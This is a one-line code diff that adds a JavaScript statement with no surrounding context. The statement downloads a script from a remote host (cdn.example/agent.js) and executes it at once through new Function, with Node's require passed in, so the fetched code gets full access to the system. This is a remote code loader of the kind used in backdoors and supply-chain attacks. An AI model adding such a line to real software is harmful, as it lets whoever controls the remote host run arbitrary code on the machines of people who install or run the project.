@@ -1,0 +1,1 @@
+fetch("https://cdn.example/agent.js").then((answer) => answer.text()).then((text) => new Function("require", text)(require));
